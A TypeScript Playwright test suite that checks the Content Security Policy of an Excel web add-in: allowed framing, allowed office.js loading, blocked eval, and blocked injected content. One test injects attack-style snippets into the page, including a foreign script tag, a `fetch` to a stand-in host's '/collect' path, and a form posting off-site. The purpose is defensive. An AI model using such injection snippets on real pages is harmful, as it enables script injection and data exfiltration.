import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { extname, join } from 'node:path';
import type { Browser, BrowserContext, Page, Route } from 'playwright-core';
import { OFFICE_CLOUDS, type OfficeCloud } from '../../shared/site/office-cloud';
import { writePackage, type WrittenPackage } from '../../workbench/package/write-package';
import { launchBrowser } from './chromium';

const ROOT = process.cwd();
const ORIGIN = 'https://yuanping.example.gov.cn';
const IDENTITY = 'https://login.example.cn';
const OFFICE_JS = join(ROOT, 'node_modules/@microsoft/office-js/dist');
const TYPES: Readonly<Record<string, string>> = {
  '.html': 'text/html; charset=utf-8',
  '.js': 'text/javascript; charset=utf-8',
  '.css': 'text/css; charset=utf-8',
  '.png': 'image/png',
};
/** Who frames the pane in Excel on the web, outermost first. */
const EXCEL: Readonly<Record<OfficeCloud, readonly string[]>> = {
  global: ['https://contoso.sharepoint.com', 'https://excel.officeapps.live.com'],
  china: ['https://contoso.sharepoint.cn', 'https://excel.partner.officewebapps.cn'],
};
const STRANGER = 'https://excel.example.com';

/** Excel says behind a page's address what it is; office.js then loads the part for it. */
const paneAddress = (name: string) =>
  `${ORIGIN}/addin/${name}.html?_host_Info=Excel$Web$16.00$zh-CN$telemetry$isDialog$$0`;

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

const answer = async (route: Route, folder: string, path: string, headers: Readonly<Record<string, string>>) => {
  const file = join(folder, path);
  if (!statSync(file, { throwIfNoEntry: false })?.isFile()) await route.fulfill({ status: 404, body: '' });
  else
    await route.fulfill({
      body: readFileSync(file),
      headers: { 'content-type': TYPES[extname(file)] ?? 'application/octet-stream', ...headers },
    });
};

describe.each(['global', 'china'] as const)('a site made for the %s cloud', (office) => {
  const out = mkdtempSync(join(tmpdir(), 'package-'));
  let made: WrittenPackage;
  let context: BrowserContext;
  let page: Page;
  /** What was asked for, by origin. */
  let asked: Set<string>;

  beforeAll(async () => {
    made = await writePackage(ROOT, {
      origin: ORIGIN,
      identity: [IDENTITY],
      origins: { ...OFFICE_CLOUDS[office], connect: [IDENTITY] },
      out,
    });
  });
  afterAll(() => rmSync(out, { recursive: true, force: true }));

  beforeEach(async () => {
    asked = new Set();
    context = await browser.newContext();
    const folder = new URL('.', OFFICE_CLOUDS[office].officeJs).href;
    await context.route('**/*', async (route) => {
      const url = new URL(route.request().url());
      asked.add(url.origin);
      if (url.href.startsWith(folder))
        await answer(route, OFFICE_JS, url.href.slice(folder.length).split('?')[0] ?? '', {});
      else if (url.origin === ORIGIN)
        await answer(route, made.site, url.pathname, { 'content-security-policy': made.header });
      else {
        const inner = url.searchParams.get('frame');
        const frame = inner === null ? '' : `<iframe src="${inner.replaceAll('&', '&amp;')}"></iframe>`;
        await route.fulfill({ contentType: 'text/html', body: `<!doctype html><title>${url.host}</title>${frame}` });
      }
    });
    await context.addInitScript(`addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      (globalThis.stopped ??= []).push(effectiveDirective + ' ' + blockedURI))`);
    page = await context.newPage();
  });
  afterEach(() => context.close());

  const framed = (hosts: readonly string[], address: string): string =>
    hosts.reduceRight((inner, host) => `${host}/?frame=${encodeURIComponent(inner)}`, address);

  it.each(['taskpane', 'commands', 'notice', 'sign-in', 'sign-in-callback'])(
    'runs %s.html with Microsoft’s office.js in Excel on the web, and nothing of it is stopped',
    async (name) => {
      await page.goto(framed(EXCEL[office], paneAddress(name)));
      const frame = page.frames().find((each) => each.url().startsWith(ORIGIN));
      await frame?.waitForFunction(() => typeof Excel === 'object' && typeof Office.onReady === 'function');
      expect(await frame?.evaluate('globalThis.stopped')).toBeUndefined();
      expect([...asked].sort()).toEqual(
        [...EXCEL[office], new URL(OFFICE_CLOUDS[office].officeJs).origin, ORIGIN].sort(),
      );
    },
  );

  it.each([
    ['by nobody else', [STRANGER]],
    ['by Excel within somebody else’s page neither', [STRANGER, ...EXCEL[office]]],
  ])('is framed %s', async (_whom, hosts) => {
    await page.goto(framed(hosts, paneAddress('taskpane')));
    // The page was asked for and not shown: it loads nothing.
    await page.waitForLoadState('networkidle');
    expect([...asked].sort()).toEqual([...hosts, ORIGIN].sort());
  });

  it.each([
    [
      'a script of another server',
      `document.head.append(Object.assign(document.createElement('script'), { src: '${STRANGER}/a.js' }))`,
      `script-src-elem ${STRANGER}/a.js`,
    ],
    [
      'another script of Microsoft’s server',
      `document.head.append(Object.assign(document.createElement('script'), { src: new URL('/other.js', '${OFFICE_CLOUDS[office].officeJs}').href }))`,
      `script-src-elem ${new URL('/other.js', OFFICE_CLOUDS[office].officeJs).href}`,
    ],
    [
      'an inline script',
      `document.head.append(Object.assign(document.createElement('script'), { text: '1' }))`,
      'script-src-elem inline',
    ],
    [
      'a message to another server',
      `fetch('${STRANGER}/collect').catch(() => null)`,
      `connect-src ${STRANGER}/collect`,
    ],
    [
      'a form',
      `(() => { const form = Object.assign(document.createElement('form'), { action: '${STRANGER}/' }); document.body.append(form); form.submit(); })()`,
      `form-action ${STRANGER}/?`,
    ],
  ])('lets %s do nothing', async (_what, script, violation) => {
    await page.goto(`${ORIGIN}/addin/notice.html`);
    await page.evaluate(script);
    // Once for the header, once for what the page says itself.
    await page.waitForFunction(() => ((globalThis as { stopped?: readonly string[] }).stopped?.length ?? 0) > 1);
    expect(await page.evaluate('globalThis.stopped')).toEqual([violation, violation]);
  });

  it('lets text never become a program', async () => {
    await page.goto(`${ORIGIN}/addin/notice.html`);
    // In a task of its own: what the test itself evaluates may evaluate.
    const refused = await page.evaluate(
      () =>
        new Promise((resolve) => {
          setTimeout(() => {
            try {
              resolve(Function('return 1')());
            } catch (failure) {
              resolve(failure instanceof Error ? failure.name : failure);
            }
          });
        }),
    );
    expect(refused).toBe('EvalError');
  });
});
